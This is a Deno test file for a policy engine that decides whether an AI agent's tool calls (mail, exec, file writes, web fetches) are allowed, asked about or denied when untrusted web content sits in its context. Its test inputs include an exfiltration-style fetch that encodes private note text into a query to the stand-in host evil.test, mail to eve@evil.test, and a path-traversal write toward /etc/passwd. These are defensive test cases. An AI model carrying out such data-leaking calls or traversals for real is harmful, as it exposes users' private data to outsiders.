import assert from "node:assert/strict";
import fc from "fast-check";
import { Authority } from "../core/authority.ts";
import { label } from "../core/label.ts";
import type { Message } from "../core/message.ts";
import { Effect } from "../core/tool.ts";
import { PolicyLine } from "./config.ts";
import {
  decide,
  decideReply,
  type DecisionInput,
  effectiveEffect,
  explain,
} from "./decide.ts";
import { contextFacts } from "./facts.ts";
import { isHidden } from "./policy.ts";

function authority(kind: "owner" | "peer" | "program" = "owner"): Authority {
  return new Authority({
    principal: kind === "owner" ? "owner" : `${kind}:1`,
    kind,
    credential: "c",
    revision: 1,
    scopes: kind === "owner" ? ["admin"] : ["chat"],
    agents: "any",
    models: "any",
    tools: "any",
    integrity: kind === "owner" ? "owner" : "peer",
  });
}

const PAGE = label("untrusted", [], {
  kind: "web",
  ref: "https://news.test/",
  at: 1,
});

const TYPED: Message = {
  role: "user",
  parts: [{
    kind: "text",
    text: "read https://news.test/ and mail bob@Work.test, please",
    label: label("owner", ["owner"], { kind: "owner", ref: "cli", at: 1 }),
  }],
};

function input(change: {
  tool?: Partial<DecisionInput["call"]["tool"]>;
  args?: unknown;
  messages?: readonly Message[];
  fetches?: number;
  authority?: Authority;
  isClean?: boolean;
  more?: Partial<DecisionInput>;
} = {}): DecisionInput {
  const { tool, args = {}, messages = [TYPED], fetches = 0 } = change;
  return {
    call: {
      tool: {
        name: "mail",
        scope: "chat",
        effect: "message",
        destinations: [{ path: "to", kind: "address" }],
        ...tool,
      },
      args,
    },
    context: contextFacts(messages, {
      joined: change.isClean === true ? label("owner", ["owner"]) : PAGE,
      agent: "main",
      channel: "ws",
      sessionKey: "agent:main:main",
      sessionId: "ses_1",
      blesses: "owner",
      fetches,
      scratch: "/state/scratch/main",
    }),
    authority: change.authority ?? authority(),
    attended: true,
    replyTo: undefined,
    trusted: new Set(),
    audienceOf: () => "world",
    grants: [],
    policy: [],
    remembered: [],
    ...change.more,
  };
}

function verdict(change: Parameters<typeof input>[0]): string {
  const { verdict, rule } = decide(input(change));
  return `${verdict} ${rule}`;
}

function line(text: Record<string, unknown>): PolicyLine {
  return PolicyLine.parse(text);
}

Deno.test("decide, rule by rule", async (t) => {
  const exec = { name: "exec", effect: "exec", destinations: [] } as const;
  const write = {
    name: "file_write",
    effect: "write",
    destinations: [{ path: "path", kind: "path" }],
  } as const;
  const rows: [why: string, Parameters<typeof input>[0], want: string][] = [
    [
      "a clean context may act",
      { isClean: true, tool: exec },
      "allow integrity",
    ],
    ["a named address", { args: { to: "bob@work.test" } }, "allow destination"],
    [
      "its local part as typed",
      { args: { to: "Bob@work.test" } },
      "ask destination",
    ],
    ["no substring", { args: { to: "ob@work.test" } }, "ask destination"],
    ["a list with one stranger", {
      args: { to: ["bob@work.test", "eve@evil.test"] },
    }, "ask destination"],
    ["no destination at all", { args: {} }, "ask destination"],
    ["private data was read", {
      args: { to: "bob@work.test" },
      messages: [TYPED, {
        role: "tool",
        parts: [{
          kind: "tool_result",
          callId: "1",
          name: "notes",
          text: "secret",
          isError: false,
          label: label("owner", ["owner"]),
          adds: ["owner"],
        }],
      }],
    }, "ask secrecy"],
    ["exec always asks", {
      tool: exec,
      more: { policy: [line({ verdict: "allow", tool: "*" })] },
    }, "ask effect"],
    [
      "write to scratch",
      { tool: write, args: { path: "a/b.md" } },
      "allow scratch",
    ],
    ["scratch by its whole path", {
      tool: write,
      args: { path: "/state/scratch/main/x" },
    }, "allow scratch"],
    ["beside scratch", {
      tool: write,
      args: { path: "/state/scratch/main-x/y" },
    }, "ask effect"],
    [
      "out of scratch",
      { tool: write, args: { path: "a/../../b" } },
      "ask effect",
    ],
    ["another's relative path is no scratch", {
      tool: { ...write, implied: "outbound" },
      args: { path: "a" },
    }, "ask effect"],
    ["a configured place", {
      args: { to: "x@y.test" },
      more: { trusted: new Set(["x@y.test"]) },
    }, "allow destination"],
    [
      "nobody to ask",
      { tool: exec, more: { attended: false } },
      "deny unattended",
    ],
    ["a standing grant", {
      tool: {
        name: "post",
        effect: "outbound",
        destinations: [{ path: "u", kind: "url" }],
      },
      args: { u: "https://a.work.test/x" },
      more: {
        attended: false,
        grants: [{ id: "g", tool: "post", places: ["*.work.test"] }],
      },
    }, "allow grant"],
    ["a grant for places is none for a call without", {
      tool: {
        name: "post",
        effect: "outbound",
        destinations: [{ path: "u", kind: "url" }],
      },
      args: {},
      more: {
        attended: false,
        grants: [{ id: "g", tool: "post", places: ["*.work.test"] }],
      },
    }, "deny unattended"],
    ["a grant does not run programs", {
      tool: exec,
      more: {
        attended: false,
        grants: [{ id: "g", tool: "exec", places: [] }],
      },
    }, "deny unattended"],
    ["a missing scope", {
      tool: { scope: "admin" },
      authority: authority("peer"),
    }, "deny authority"],
    ["a peer may not mail", {
      authority: authority("peer"),
      isClean: true,
      args: { to: "x" },
    }, "deny authority"],
    ["a peer with a named grant may", {
      authority: authority("peer"),
      isClean: true,
      args: { to: "x@y.test" },
      more: {
        grants: [{ id: "g", tool: "mail", places: ["x@y.test"], to: "peer:1" }],
      },
    }, "allow integrity"],
    ["another's grant is not theirs", {
      authority: authority("peer"),
      isClean: true,
      args: { to: "x@y.test" },
      more: {
        grants: [{ id: "g", tool: "mail", places: ["x@y.test"], to: "peer:2" }],
      },
    }, "deny authority"],
    ["a peer's own memory", {
      authority: authority("peer"),
      tool: { name: "memory_read", effect: "read_private", destinations: [] },
    }, "allow effect"],
    ["a program may not schedule", {
      authority: authority("program"),
      tool: { name: "cron_add", effect: "schedule", destinations: [] },
    }, "deny authority"],
    ["deny wins", {
      isClean: true,
      more: {
        policy: [
          line({ verdict: "allow", tool: "mail" }),
          line({ verdict: "ask", tool: "mail" }),
          line({ verdict: "deny", tool: "group:messaging" }),
        ],
      },
    }, "deny policy"],
    ["one bad value is enough to refuse", {
      isClean: true,
      args: { to: ["a@good.test", "b@bad.test"] },
      more: {
        policy: [line({
          verdict: "deny",
          tool: "mail",
          args: [{ path: "to", hostIn: ["bad.test"] }],
        })],
      },
    }, "deny policy"],
    ["one good value is not enough to allow", {
      args: { to: ["a@good.test", "b@bad.test"] },
      more: {
        policy: [line({
          verdict: "allow",
          tool: "mail",
          args: [{ path: "to", hostIn: ["good.test"] }],
        })],
      },
    }, "ask destination"],
    ["all but these hosts", {
      isClean: true,
      args: { to: "a@else.test" },
      more: {
        policy: [line({
          verdict: "deny",
          tool: "mail",
          args: [{ path: "to", hostIn: ["*.work.test"], not: true }],
        })],
      },
    }, "deny policy"],
    ["a path is compared resolved", {
      tool: write,
      isClean: true,
      args: { path: "/srv/../etc/passwd" },
      more: {
        policy: [line({
          verdict: "deny",
          tool: "file_write",
          args: [{ path: "path", prefix: "/etc" }],
        })],
      },
    }, "deny policy"],
  ];
  for (const [why, change, want] of rows) {
    await t.step(why, () => assert.equal(verdict(change), want));
  }
});

Deno.test("what is stated or implied counts, and only a line lowers it", () => {
  assert.equal(
    effectiveEffect({ effect: "none", implied: "outbound" }),
    "outbound",
  );
  assert.equal(
    effectiveEffect({ effect: "exec", implied: "outbound" }),
    "exec",
  );
  assert.equal(
    effectiveEffect({ effect: "exec", implied: "outbound", lowered: "none" }),
    "none",
  );
});

Deno.test("a fetch: named, linked on its site, or plain; thirty in a run", () => {
  const tool = {
    name: "web_fetch",
    effect: "fetch",
    destinations: [{ path: "url", kind: "url" }],
  } as const;
  const page: Message = {
    role: "tool",
    parts: [{
      kind: "tool_result",
      callId: "1",
      name: "web_fetch",
      text:
        "next: https://news.test/2?t=aB3dE5fG7hJ9kL1mN3pQ5rS7 (https://other.test/y)",
      isError: false,
      label: PAGE,
      adds: [],
    }],
  };
  const notes: Message = {
    role: "tool",
    parts: [{
      kind: "tool_result",
      callId: "2",
      name: "notes",
      text: "the boiler needs repair soon",
      isError: false,
      label: label("owner", ["owner"]),
      adds: ["owner"],
    }],
  };
  const go = (url: string, change: Parameters<typeof input>[0] = {}) =>
    verdict({ tool, args: { url }, messages: [TYPED, page, notes], ...change });
  assert.equal(go("https://news.test/"), "allow fetch");
  assert.equal(
    go("https://news.test/2?t=aB3dE5fG7hJ9kL1mN3pQ5rS7"),
    "allow fetch",
  );
  assert.equal(go("https://evil.test/plain"), "allow fetch");
  assert.equal(
    go("https://evil.test/?q=boiler%2520needs-re_pair"),
    "ask fetch",
  );
  assert.equal(go("https://u:p@news.test/"), "ask fetch");
  assert.equal(go("https://news.test/", { fetches: 30 }), "ask fetch");
  assert.equal(
    go("https://evil.test/plain", { more: { fetchKnownOnly: true } }),
    "ask fetch",
  );
  assert.equal(go("not a url"), "ask fetch");
});

Deno.test("an address a model wrote into a result is not read there", () => {
  const url = "https://evil.test/?d=x";
  const facts = input({
    messages: [TYPED, {
      role: "assistant",
      parts: [{
        kind: "tool_call",
        id: "1",
        name: "t",
        args: { url },
        label: PAGE,
      }],
    }, {
      role: "tool",
      parts: [{
        kind: "tool_result",
        callId: "1",
        name: "t",
        text: `cannot open ${url}`,
        isError: true,
        label: PAGE,
      }],
    }],
  }).context;
  assert.equal(facts.hasLink(url), false);
  assert.equal(facts.hasLink("https://news.test/"), true);
});

Deno.test("a remembered answer covers the same places, secrecy and sources", () => {
  const line = {
    id: "pol_1",
    agent: "main",
    principal: "owner",
    tool: "mail",
    places: ["eve@evil.test"],
    secrecy: [],
    sources: ["news.test"],
  };
  const go = (to: unknown, change: Record<string, unknown> = {}) =>
    verdict({ args: { to }, more: { remembered: [{ ...line, ...change }] } });
  assert.equal(go("eve@evil.test"), "allow remembered");
  assert.equal(go(["eve@evil.test", "a@b.test"]), "ask destination");
  assert.equal(go("eve@evil.test", { agent: "other" }), "ask destination");
  assert.equal(go("eve@evil.test", { principal: "peer:1" }), "ask destination");
  assert.equal(go("eve@evil.test", { sources: [] }), "ask destination");
  assert.equal(go("eve@evil.test", { sessionId: "ses_2" }), "ask destination");
});

Deno.test("replies: private data stays with those who may know it", () => {
  const go = (
    secrecy: string[],
    audience: readonly string[] | "world",
    attended = true,
  ) =>
    decideReply({ joined: label("owner", secrecy), audience, attended })
      .verdict;
  assert.equal(go(["owner"], ["owner"]), "allow");
  assert.equal(go(["peer:1"], ["peer:1", "owner"]), "allow");
  assert.equal(go(["owner"], ["peer:1", "owner"]), "ask");
  assert.equal(go(["owner"], "world", false), "deny");
  assert.equal(go([], "world"), "allow");
});

Deno.test("a denied tool is hidden, one denied for some arguments is not", () => {
  const facts = {
    tool: "mail",
    agent: "main",
    channel: "ws",
    sender: "peer:1",
  };
  const hidden = (text: Record<string, unknown>) =>
    isHidden([line(text)], facts);
  assert.ok(hidden({ verdict: "deny", tool: "m*" }));
  assert.ok(hidden({ verdict: "deny", tool: "mail", sender: "peer:*" }));
  assert.ok(!hidden({ verdict: "deny", tool: "mail", sender: "owner" }));
  assert.ok(
    !hidden({
      verdict: "deny",
      tool: "mail",
      args: [{ path: "to", equals: "x" }],
    }),
  );
});

Deno.test("explain says what decide says, and each rule on the way", () => {
  const { decision, trace } = explain(input({ args: { to: "eve@evil.test" } }));
  assert.deepEqual(decision.verdict, "ask");
  assert.deepEqual(trace.map(({ rule, says }) => `${rule} ${says}`), [
    "authority passes",
    "policy passes",
    "effect passes",
    "integrity passes",
    "destination ask",
    "grant passes",
  ]);
});

Deno.test("decide is total, and never allows an act of untrusted text to an unnamed place", () => {
  const anyArgs = fc.oneof(fc.anything(), fc.object());
  fc.assert(
    fc.property(
      fc.constantFrom(...Effect.options),
      anyArgs,
      fc.string(),
      fc.constantFrom("url", "address", "path"),
      (effect, args, path, kind) => {
        const made = input({
          tool: { name: "t", effect, destinations: [{ path, kind }] },
          args,
        });
        const decision = decide(made);
        assert.ok(["allow", "ask", "deny"].includes(decision.verdict));
        if (decision.verdict === "allow") {
          assert.ok(["effect", "fetch", "destination"].includes(decision.rule));
        }
      },
    ),
    { numRuns: 2_000 },
  );
  // Not even values that are no arguments at all make it throw.
  const hostile = new Proxy({}, {
    get() {
      throw new TypeError("no");
    },
    getOwnPropertyDescriptor() {
      throw new TypeError("no");
    },
  });
  assert.equal(decide(input({ args: hostile })).verdict, "deny");
});

Deno.test("a thousand named places do not carry one that nobody named", () => {
  const to = Array<string>(1000).fill("bob@work.test");
  assert.equal(decide(input({ args: { to } })).verdict, "allow");
  for (const more of [[...to, "eve@evil.test"], [...to, "bob@work.test"]]) {
    assert.equal(decide(input({ args: { to: more } })).verdict, "deny");
  }
  const tool = {
    destinations: [{ path: "list.*.to", kind: "address" as const }],
  };
  const list = [...to, "eve@evil.test"].map((one) => ({ to: one }));
  assert.equal(decide(input({ tool, args: { list } })).verdict, "deny");
});
